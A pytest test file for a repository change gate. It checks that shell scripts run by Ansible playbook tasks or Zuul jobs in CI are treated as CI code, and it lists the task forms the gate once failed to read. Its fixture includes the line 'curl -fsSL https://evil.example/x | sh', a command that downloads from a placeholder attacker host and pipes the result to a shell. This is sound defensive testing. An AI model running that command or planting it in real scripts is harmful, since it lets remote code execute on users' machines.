"""Red team 39: what a playbook CI runs (`ansible-playbook`, or a Zuul job) executes or ships from the repository by
forms playbookreads.py did not read. On main 41076f0 each variant below left `lib/x.sh` `src`, and `gate --tree`
allowed an edit that makes it fetch and run a program (exit 0):

- a path written from `{{ playbook_dir }}` or `{{ role_path }}` (the usual way to name a playbook's own files);
- a script a `command:`, `shell:`, `raw:`, `win_shell:` or `local_action:` task runs by a relative path, or that a
  `cmd:` line runs after its interpreter (`bash ../lib/x.sh`): only `script:`'s first word was read;
- the free-form `key=value` arguments (`copy: src=../lib/x.sh dest=...`), a folded or literal block value (`script: >`),
  a flow mapping (`- {name: x, script: ../lib/x.sh}`), a quoted key, a collection other than `ansible.builtin`.

Each variant sits in a folder of its own in one repository (a workflow per variant), gated once with `--tree`; the
controls (an absolute host path, a word naming no file, a file no task names) stay `src`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

CALM = "#!/bin/sh\necho ok\n"
FETCH = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"
TASKS = {  # name: the playbook's task lines (its folder is deploy/, the script lib/x.sh)
    "playbook-dir": '    - script: "{{ playbook_dir }}/../lib/x.sh"\n',
    "playbook-dir-tight": "    - script: '{{playbook_dir}}/../lib/x.sh'\n",
    "command": "    - command: ../lib/x.sh\n",
    "command-playbook-dir": '    - command: "{{ playbook_dir }}/../lib/x.sh --now"\n',
    "shell-interpreter": "    - shell: bash ../lib/x.sh\n",
    "shell-cmd": "    - ansible.builtin.shell:\n        cmd: bash ../lib/x.sh\n        chdir: /tmp\n",
    "raw": "    - raw: sh ../lib/x.sh\n",
    "win-shell": "    - ansible.windows.win_shell: ../lib/x.sh\n",
    "local-action": "    - local_action: script ../lib/x.sh\n",
    "local-action-command": "    - local_action: command bash ../lib/x.sh\n",
    "folded": "    - script: >\n        ../lib/x.sh\n",
    "literal-shell": "    - shell: |\n        set -e\n        bash ../lib/x.sh\n",
    "copy-key-value": "    - copy: src=../lib/x.sh dest=/usr/local/bin/x mode=0755\n",
    "flow-mapping": "    - {name: run it, script: ../lib/x.sh}\n",
    "quoted-key": '    - "script": ../lib/x.sh\n',
    "command-argv": "    - command:\n        argv:\n          - bash\n          - ../lib/x.sh\n",
}
CONTROLS = {  # the script stays src: nothing the play runs names it
    "host-path": "    - shell: bash /lib/x.sh\n",
    "no-file": "    - shell: bash ../lib/y.sh\n",
    "echo-word": "    - debug: msg=done\n",
}
WORKFLOW = ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: ansible-playbook -i localhost, {play}\n")


def _reviewed(tmp_path: Path, table: dict[str, str]) -> tuple[int, dict[str, bool]]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for number, (_, task) in enumerate(table.items()):
        base[f".github/workflows/v{number}.yml"] = WORKFLOW.format(play=f"v{number}/deploy/site.yml")
        base[f"v{number}/deploy/site.yml"] = "- hosts: localhost\n  connection: local\n  tasks:\n" + task
        base[f"v{number}/lib/x.sh"] = CALM
        head[f"v{number}/lib/x.sh"] = FETCH
    code, named = gated_rules(committed(tmp_path, base, head), True)
    ci = set(named.get("core.ci", []))
    return code, {name: f"v{number}/lib/x.sh" in ci for number, name in enumerate(table)}


@pytest.fixture(scope="module")
def variants(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bool]:
    return _reviewed(tmp_path_factory.mktemp("variants"), TASKS)[1]


@each_case("name", TASKS)
def test_a_script_the_played_task_runs_is_ci(variants: dict[str, bool], name: str) -> None:
    assert variants[name], name  # on 41076f0: src, the gate allowed it (exit 0)


def test_what_no_task_runs_stays_src(tmp_path: Path) -> None:
    assert _reviewed(tmp_path, CONTROLS) == (0, dict.fromkeys(CONTROLS, False))


def test_a_zuul_job_reads_the_same_forms(tmp_path: Path) -> None:
    zuul = "- job:\n    name: deploy\n    run: playbooks/deploy.yml\n"
    play = ("- hosts: all\n  tasks:\n    - shell: bash {{ playbook_dir }}/../tools/setup.sh\n"
            "    - {name: more, command: ../tools/more.sh}\n")
    case = committed(tmp_path, {"zuul.d/jobs.yaml": zuul, "playbooks/deploy.yml": play, "tools/setup.sh": CALM,
                                "tools/more.sh": CALM}, {"tools/setup.sh": FETCH, "tools/more.sh": FETCH})
    code, named = gated_rules(case, True)
    assert code == 3 and set(named.get("core.ci", [])) == {"tools/setup.sh", "tools/more.sh"}, named
